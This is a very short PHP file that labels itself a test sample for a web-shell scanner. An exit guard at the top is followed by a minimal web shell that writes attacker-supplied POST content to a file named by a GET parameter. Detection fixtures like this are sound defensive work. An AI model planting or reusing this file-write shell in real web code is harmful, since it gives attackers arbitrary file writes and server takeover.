<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$fp = fopen($_GET['n'], 'w');
fwrite($fp, $_POST['c']);
fclose($fp);
